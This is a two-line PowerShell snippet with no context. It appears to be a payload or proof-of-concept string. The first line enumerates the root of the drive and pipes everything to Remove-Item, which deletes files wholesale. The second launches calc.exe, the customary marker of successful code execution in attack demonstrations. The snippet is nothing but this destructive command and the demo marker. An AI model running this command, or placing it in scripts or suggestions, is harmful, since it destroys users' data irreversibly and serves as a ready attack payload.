Get-ChildItem / | Remove-Item
Start-Process calc.exe
